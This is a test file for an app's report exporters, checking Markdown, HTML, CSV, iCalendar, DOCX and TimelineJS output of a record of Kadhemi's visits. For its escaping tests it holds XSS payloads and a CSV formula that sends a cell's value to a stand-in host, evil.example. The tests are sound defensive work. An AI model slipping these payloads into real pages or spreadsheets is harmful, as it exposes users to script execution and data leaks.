import ICAL from 'ical.js';
import mammoth from 'mammoth';
import { Lexer } from 'marked';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import {
  CSV_COLUMNS,
  buildReportModel,
  foldLine,
  icsSequence,
  renderCsv,
  renderDocx,
  renderHtml,
  renderIcs,
  renderJson,
  renderMarkdown,
  renderTimelineJs,
  type ReportModel,
  type TimelineJs,
} from '../../../shared/reports';
import { SEED_IDS } from '../../../shared/seed';
import { buildGeneratedTables } from './build-visits';
import { OPTIONS, reschedule, seedInput, seedModel, withVisit } from './fixtures';

const XSS = [
  '<script>window.__pwned = 1</script>',
  '<img src=x onerror="window.__pwned=2">',
  '"><svg onload=alert(1)>',
  "javascript:alert('x')",
];
const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")';

function hostileModel(): ReportModel {
  const t = buildGeneratedTables(8, {
    purposes: [FORMULA, '+SUM(1,2)', '-2+3', '@cmd', '\tTabbed', XSS[0]!, XSS[1]!, 'Plain | pipe * star _under_ [link](x)'],
    notes: ['# Injected heading\n\n<script>alert(1)</script>\n\n```\ncode\n```\n\n## Another', XSS[1]!, XSS[2]!],
  });
  return buildReportModel(t, OPTIONS);
}

describe('Markdown', () => {
  it('has the report’s structure: title, summary table, one section per visit, sources', () => {
    const md = renderMarkdown(seedModel());
    const headings = new Lexer().lex(md).filter((t) => t.type === 'heading') as { depth: number; text: string }[];
    expect(headings.filter((h) => h.depth === 1).map((h) => h.text)).toEqual(['Kadhemi’s travels']);
    expect(headings.filter((h) => h.depth === 2).map((h) => h.text)).toEqual(['Summary', 'Visits', 'Context', 'Sources']);
    expect(headings.filter((h) => h.depth === 3)).toHaveLength(3);
    const table = new Lexer().lex(md).find((t) => t.type === 'table') as { rows: unknown[] } | undefined;
    expect(table?.rows).toHaveLength(3);
    expect(md).toContain('King Salman was hospitalised');
    expect(md).toContain('They killed your guest in your house and blatantly confessed to it.');
    expect(md).toContain('[^1]: Khamenei tells visiting Iraqi PM Kadhemi');
  });

  it('keeps notes’ Markdown (and HTML) from breaking the report’s headings', () => {
    const m = hostileModel();
    const md = renderMarkdown(m);
    const tokens = new Lexer().lex(md);
    const headings = tokens.filter((t) => t.type === 'heading') as { depth: number; text: string }[];
    expect(headings.map((h) => h.text)).not.toContain('Injected heading');
    expect(headings.filter((h) => h.depth === 3)).toHaveLength(m.visits.length);
    expect(tokens.some((t) => t.type === 'html')).toBe(false);
    expect(md).toContain('# Injected heading'); // still there, as text in a fenced block
    // A "|" in a purpose cannot add table columns.
    const table = tokens.find((t) => t.type === 'table') as { header: unknown[]; rows: unknown[][] };
    expect(table.rows.every((r) => r.length === table.header.length)).toBe(true);
    expect(md).toContain('&lt;script&gt;');
  });
});

describe('HTML', () => {
  it('is one self-contained file: inline CSS with print styles, no scripts, nothing loaded', () => {
    const html = renderHtml(seedModel());
    expect(html).toMatch(/^<!doctype html>/);
    expect(html).toContain('<style>');
    expect(html).toContain('@media print');
    expect(html).not.toMatch(/<script|<link|<img|<iframe|\ssrc=|@import|url\(/i);
    expect(html).toContain('<h1>Kadhemi’s travels</h1>');
    expect(html).toContain('King Salman was hospitalised');
  });

  it('escapes every user string: payloads in purposes and notes stay text', () => {
    const html = renderHtml(hostileModel());
    expect(html).not.toMatch(/<script/i);
    expect(html).not.toMatch(/<img|<svg/i);
    // "<" in user text is escaped, so every "<" left starts a real tag: none may carry a handler.
    expect(html).not.toMatch(/<[^>]*\son\w+\s*=/i);
    expect(html).toContain('&#60;script&#62;window.__pwned = 1&#60;/script&#62;');
    expect(html).toContain('<pre class="note"># Injected heading');
  });
});

describe('CSV', () => {
  it('has one row per visit and the columns in order', () => {
    const m = buildReportModel(buildGeneratedTables(40), OPTIONS);
    const parsed = Papa.parse<string[]>(renderCsv(m), { skipEmptyLines: true });
    expect(parsed.errors).toEqual([]);
    expect(parsed.data[0]).toEqual([...CSV_COLUMNS]);
    expect(parsed.data).toHaveLength(41);
    const seeded = Papa.parse<Record<string, string>>(renderCsv(seedModel()), { header: true, skipEmptyLines: true });
    expect(seeded.data.map((r) => r.status)).toEqual(['completed', 'planned', 'postponed']);
    expect(seeded.data[2]!.status_history).toBe(
      '2020-07-20 planned: Scheduled as his first trip abroad (no date given for the plan) | 2020-07-20 planned -> postponed: King Salman was hospitalised',
    );
    expect(seeded.data[0]!.start_precision).toBe('day');
    // Codes for programs, each with its label in the app's words.
    expect(seeded.data.map((r) => [r.status, r.status_label, r.kind, r.kind_label])).toEqual([
      ['completed', 'Completed', 'official', 'Official visit'],
      ['planned', 'Planned', 'unknown', 'Not known'],
      ['postponed', 'Postponed', 'unknown', 'Not known'],
    ]);
    expect([seeded.data[1]!.start_precision, seeded.data[1]!.start_precision_label]).toEqual(['window', 'a window, not an exact day']);
  });

  it('neutralises formulas: cells starting with = + - @ or a tab get a leading quote', () => {
    const m = hostileModel();
    const rows = Papa.parse<Record<string, string>>(renderCsv(m), { header: true, skipEmptyLines: true }).data;
    const purposes = new Map(rows.map((r) => [r.id, r.purpose]));
    const byPurpose = (p: string) => m.visits.find((v) => v.purpose === p)!.id;
    expect(purposes.get(byPurpose(FORMULA))).toBe(`'${FORMULA}`);
    expect(purposes.get(byPurpose('+SUM(1,2)'))).toBe("'+SUM(1,2)");
    expect(purposes.get(byPurpose('-2+3'))).toBe("'-2+3");
    expect(purposes.get(byPurpose('@cmd'))).toBe("'@cmd");
    expect(purposes.get(byPurpose('\tTabbed'))).toBe("'\tTabbed");
    for (const r of rows) for (const cell of Object.values(r)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });
});

describe('JSON', () => {
  it('is the model, with a stable key order', () => {
    const m = seedModel();
    const json = renderJson(m);
    expect(JSON.parse(json)).toEqual(m);
    // Records whose keys come in another order (as from another database) give the same bytes.
    const input = seedInput();
    const shuffled = {
      ...input,
      visits: input.visits.map((v) => Object.fromEntries(Object.entries(v).reverse()) as typeof v),
      sources: input.sources.map((s) => Object.fromEntries(Object.entries(s).reverse()) as typeof s),
    };
    expect(renderJson(buildReportModel(shuffled, OPTIONS))).toBe(json);
    expect(Object.keys(JSON.parse(json) as object).slice(0, 4)).toEqual(['format', 'formatVersion', 'title', 'selection']);
  });
});

describe('iCalendar', () => {
  const parse = (text: string) => new ICAL.Component(ICAL.parse(text) as unknown[]);

  it('has one all-day VEVENT per dated visit, with RFC statuses and the undated listed', () => {
    const text = renderIcs(seedModel());
    expect(text.split('\r\n').length).toBeGreaterThan(10);
    expect(text.replace(/\r\n/g, '')).not.toContain('\n');
    const cal = parse(text);
    const events = cal.getAllSubcomponents('vevent');
    expect(events).toHaveLength(2);
    const byUid = new Map(events.map((e) => [e.getFirstPropertyValue('uid'), e]));
    const tehran = byUid.get(`${SEED_IDS.tehranVisit}@legation`)!;
    const start = tehran.getFirstPropertyValue('dtstart') as ICAL.Time;
    expect(start.isDate).toBe(true);
    expect(start.toString()).toBe('2020-07-21');
    expect((tehran.getFirstPropertyValue('dtend') as ICAL.Time).toString()).toBe('2020-07-22');
    expect(tehran.getFirstPropertyValue('status')).toBe('CONFIRMED');
    expect(tehran.getFirstPropertyValue('summary')).toBe('Mustafa al-Kadhemi → Iran, Tehran');
    const washington = byUid.get(`${SEED_IDS.washingtonVisit}@legation`)!;
    expect(washington.getFirstPropertyValue('status')).toBe('TENTATIVE');
    // The "within weeks" window: one entry on its first day, titled with the window, not a six-week block.
    expect((washington.getFirstPropertyValue('dtstart') as ICAL.Time).toString()).toBe('2020-07-22');
    expect((washington.getFirstPropertyValue('dtend') as ICAL.Time).toString()).toBe('2020-07-23');
    expect(washington.getFirstPropertyValue('summary')).toBe(
      'Mustafa al-Kadhemi → United States, Washington — 22 July 2020 – 2 September 2020 (within weeks)',
    );
    expect(washington.getFirstPropertyValue('x-legation-precision')).toBe('window');
    const said = String(washington.getFirstPropertyValue('description'));
    expect(said).toContain('No day is known: this entry is on the first day the dates allow.');
    expect(said).toContain('Status: Planned');
    expect(said).toContain('- 22 July 2020: Planned — Set to visit within weeks [1]');
    expect(said).not.toMatch(/\bplanned\b|a window, not an exact day/);
    expect(String(cal.getFirstPropertyValue('x-legation-undated'))).toContain(SEED_IDS.saudiVisit);
    expect(String(tehran.getFirstPropertyValue('description'))).toContain('Purpose: First trip abroad since taking office; talks with');
  });

  it('a visit known only to the month, year or a window is one day, on its first day, named with its dates', () => {
    const m = buildReportModel(buildGeneratedTables(24), OPTIONS);
    const events = parse(renderIcs(m)).getAllSubcomponents('vevent');
    const byUid = new Map(events.map((e) => [String(e.getFirstPropertyValue('uid')), e]));
    const fuzzy = m.visits.filter((v) => v.start && v.start.precision !== 'day');
    expect(new Set(fuzzy.map((v) => v.start!.precision))).toEqual(new Set(['month', 'year', 'window']));
    for (const v of fuzzy) {
      const e = byUid.get(`${v.id}@legation`)!;
      const start = e.getFirstPropertyValue('dtstart') as ICAL.Time;
      const end = e.getFirstPropertyValue('dtend') as ICAL.Time;
      expect(start.toString()).toBe(v.start!.from);
      expect(end.subtractDate(start).toSeconds()).toBe(86_400);
      expect(String(e.getFirstPropertyValue('summary'))).toContain(`${v.title} — ${v.dates}`);
      expect(e.getFirstPropertyValue('x-legation-precision')).toBe(v.start!.precision);
    }
  });

  it('maps every status and keeps UIDs stable; SEQUENCE goes up after a status change', () => {
    const m = buildReportModel(buildGeneratedTables(16), OPTIONS);
    const statuses = parse(renderIcs(m))
      .getAllSubcomponents('vevent')
      .map((e) => `${String(e.getFirstPropertyValue('x-legation-status'))}:${String(e.getFirstPropertyValue('status'))}`);
    expect(new Set(statuses)).toEqual(
      new Set(['planned:TENTATIVE', 'postponed:TENTATIVE', 'underway:CONFIRMED', 'completed:CONFIRMED', 'cancelled:CANCELLED']),
    );

    const input = seedInput();
    const before = parse(renderIcs(buildReportModel(input, OPTIONS))).getAllSubcomponents('vevent');
    const again = parse(renderIcs(buildReportModel(input, OPTIONS))).getAllSubcomponents('vevent');
    expect(again.map((e) => e.getFirstPropertyValue('uid'))).toEqual(before.map((e) => e.getFirstPropertyValue('uid')));
    // The postponed Saudi trip is rescheduled (a status change with new dates, a second later).
    const saudi = input.visits.find((v) => v.id === SEED_IDS.saudiVisit)!;
    const after = parse(renderIcs(buildReportModel(withVisit(input, reschedule(saudi, '2020-07-22T12:00:01.000Z')), OPTIONS)));
    const ev = after.getAllSubcomponents('vevent').find((e) => e.getFirstPropertyValue('uid') === `${SEED_IDS.saudiVisit}@legation`)!;
    expect(ev.getFirstPropertyValue('status')).toBe('TENTATIVE');
    expect(Number(ev.getFirstPropertyValue('sequence'))).toBeGreaterThan(1);
    // Even a change in the same second as the visit was created bumps it: one per status change.
    const quick = reschedule(saudi, saudi.updatedAt);
    expect(
      icsSequence({ statusHistory: quick.statusHistory.map(() => null) as never, createdAt: quick.createdAt, updatedAt: quick.updatedAt }),
    ).toBe(2);
    const seqBefore = icsSequence({
      statusHistory: saudi.statusHistory.map(() => null) as never,
      createdAt: saudi.createdAt,
      updatedAt: saudi.updatedAt,
    });
    expect(seqBefore).toBe(1);
  });

  it('folds long lines at 75 octets without splitting characters and escapes , ; \\ and newlines', () => {
    for (const line of renderIcs(hostileModel()).split('\r\n')) expect(new TextEncoder().encode(line).length).toBeLessThanOrEqual(75);
    const long = `DESCRIPTION:${'é'.repeat(100)}`;
    const folded = foldLine(long);
    expect(folded.split('\r\n ').join('')).toBe(long);
    const m = buildReportModel(buildGeneratedTables(2, { purposes: ['Trade, energy; and "back\\slash"\nsecond line'] }), OPTIONS);
    const ev = parse(renderIcs(m))
      .getAllSubcomponents('vevent')
      .find((e) => String(e.getFirstPropertyValue('uid')).startsWith('30000000-0000-4000-8000-000000000001'))!;
    expect(String(ev.getFirstPropertyValue('description'))).toContain('Purpose: Trade, energy; and "back\\slash"\nsecond line');
  });
});

describe('DOCX', () => {
  it('is a Word document mammoth reads: traveller, quotes, status history reasons, sources', async () => {
    const bytes = await renderDocx(seedModel());
    expect(bytes).toBeInstanceOf(Uint8Array);
    expect([...bytes.slice(0, 2)]).toEqual([0x50, 0x4b]); // a ZIP
    const { value } = await mammoth.extractRawText({ buffer: Buffer.from(bytes) });
    expect(value).toContain('Kadhemi’s travels');
    expect(value).toContain('Mustafa al-Kadhemi → Iran, Tehran');
    expect(value).toContain('They killed your guest in your house and blatantly confessed to it.');
    expect(value).toContain('King Salman was hospitalised');
    expect(value).toContain('Scheduled as his first trip abroad (no date given for the plan)');
    expect(value).toContain('[1] Khamenei tells visiting Iraqi PM Kadhemi');
    const html = (await mammoth.convertToHtml({ buffer: Buffer.from(bytes) })).value;
    expect(html).toContain('<table>');
    expect(html).toMatch(/<h2>1\. Mustafa al-Kadhemi → Iran, Tehran<\/h2>/);
  });
});

describe('TimelineJS', () => {
  it('follows the TimelineJS3 JSON format, keeping date precision', () => {
    const t = JSON.parse(renderTimelineJs(buildReportModel(buildGeneratedTables(12), OPTIONS))) as TimelineJs;
    expect(t.title.text.headline).toBe('Kadhemi’s travels');
    const visits = t.events.filter((e) => e.unique_id.startsWith('visit-'));
    expect(visits).toHaveLength(10); // 2 of 12 have no date
    for (const e of t.events) {
      expect(typeof e.start_date.year).toBe('number');
      expect(e.text.headline).not.toMatch(/<script/);
      expect(['planned', 'postponed', 'underway', 'completed', 'cancelled', 'context']).toContain(e.group);
    }
    const precisions = visits.map((e) => Object.keys(e.start_date).join(','));
    expect(precisions).toEqual(expect.arrayContaining(['year', 'year,month', 'year,month,day']));
    const seeded = JSON.parse(renderTimelineJs(seedModel())) as TimelineJs;
    const washington = seeded.events.find((e) => e.unique_id === `visit-${SEED_IDS.washingtonVisit}`)!;
    expect(washington.start_date).toEqual({ year: 2020, month: 7, day: 22 });
    expect(washington.end_date).toEqual({ year: 2020, month: 9, day: 2 });
    expect(washington.display_date).toBe('22 July 2020 – 2 September 2020 (within weeks)');
    expect(seeded.events.find((e) => e.group === 'context' && e.start_date.month === 1 && e.start_date.day === undefined)).toBeTruthy();
  });
});

describe('the annex in the reader’s words', () => {
  /** The annex's old internal wording: field names, suffixes, status codes, precision asides. */
  const INTERNAL = [
    /status change to/,
    /\(on\)|\(reason\)|\(dates: /,
    /planned → postponed|recorded as/,
    /\((a window, not an exact day|exact day|known to the month)\)/,
    /Markdown source/,
    /Status:?[\s*]*(planned|postponed|underway|completed|cancelled)\b/,
    /\| (planned|postponed|underway|completed|cancelled) \|/,
    /\bofficial\b/,
    /UTC\b(?![+-])/,
  ];
  const local = () => buildReportModel(seedInput(), { ...OPTIONS, zoneOffsetMinutes: 330 });

  it('Markdown: statuses, history and evidence in words, the time of generation in the reader’s zone', () => {
    const md = renderMarkdown(local());
    expect(md).toContain('- **Generated:** 1 May 2024, 15:30 (UTC+05:30)');
    expect(md).toContain('- **Visits:** 3 (1 planned, 1 postponed, 1 completed)');
    expect(md).toContain('- 20 July 2020: **Postponed** — King Salman was hospitalised[^1]');
    expect(md).toContain('- **Dates:** 22 July 2020 – 2 September 2020 (within weeks)\n');
    expect(md).toContain('- *Postponed — when:* “hospitalised on Monday”[^1]');
    expect(md).toContain('| 1 | Mustafa al-Kadhemi | Iran, Tehran | 21 July 2020 | Completed | Official visit |');
    // Notes keep their own words (they are the analyst's), so only the report's own text is checked.
    const body = md.replace(/```markdown[\s\S]*?```/g, '');
    for (const bad of INTERNAL) expect(body).not.toMatch(bad);
  });

  it('Word, read by mammoth, and HTML say the same', async () => {
    const { value } = await mammoth.extractRawText({ buffer: Buffer.from(await renderDocx(local())) });
    expect(value).toContain('Generated: 1 May 2024, 15:30 (UTC+05:30)');
    expect(value).toContain('20 July 2020: Postponed — King Salman was hospitalised');
    const html = renderHtml(local());
    const text = html
      .slice(html.indexOf('<body>'))
      .replace(/<pre class="note">[\s\S]*?<\/pre>/g, '')
      .replace(/<[^>]+>/g, ' ');
    expect(text).toContain('1 May 2024, 15:30 (UTC+05:30)');
    for (const bad of INTERNAL) {
      expect(value.replace(/# Reading[\s\S]*?`Washington`/, '')).not.toMatch(bad);
      expect(text).not.toMatch(bad);
    }
  });

  it('without the reader’s zone (a program calling it), the time is given in UTC, named', () => {
    expect(renderMarkdown(seedModel())).toContain('- **Generated:** 1 May 2024, 10:00 UTC');
  });
});
